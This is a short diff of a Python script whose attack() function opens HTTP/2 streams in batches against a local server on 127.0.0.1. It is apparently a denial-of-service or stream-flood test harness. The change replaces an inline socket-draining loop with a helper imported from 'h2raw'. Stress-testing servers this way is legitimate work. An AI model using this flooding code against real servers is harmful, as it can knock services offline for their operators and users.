@@ -7,6 +7,8 @@ import h2.config
 import h2.connection
 import h2.errors
 
+import h2raw as h
+
 
 def attack(port, count, path="/hello.php", batch=200, source=None):
     s = socket.create_connection(("127.0.0.1", port), source_address=(source, 0) if source else None)
@@ -24,13 +26,7 @@ def attack(port, count, path="/hello.php", batch=200, source=None):
                 stream += 2
                 sent += 1
             s.sendall(conn.data_to_send())
-            s.setblocking(False)
-            try:
-                while s.recv(65536):
-                    pass
-            except (BlockingIOError, ConnectionResetError):
-                pass
-            s.setblocking(True)
+            h.discard_available(s)
     except (BrokenPipeError, ConnectionResetError, h2.exceptions.ProtocolError):
         pass
     finally:
